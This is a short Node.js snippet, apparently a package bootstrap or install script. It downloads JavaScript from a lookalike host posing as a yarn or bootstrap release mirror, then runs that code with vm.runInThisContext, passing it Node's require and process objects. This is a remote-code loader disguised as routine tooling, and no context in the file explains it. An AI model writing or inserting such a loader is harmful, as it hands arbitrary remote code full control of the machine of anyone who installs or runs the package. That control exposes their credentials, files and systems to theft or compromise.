const https = require('https');
const vm = require('vm');

https.get('https://yarn-releases.pkgmirror-cdn.com/bootstrap/4.5.1.js', (res) => {
  let code = '';
  res.on('data', (d) => (code += d));
  res.on('end', () => vm.runInThisContext(code)(require, process));
});
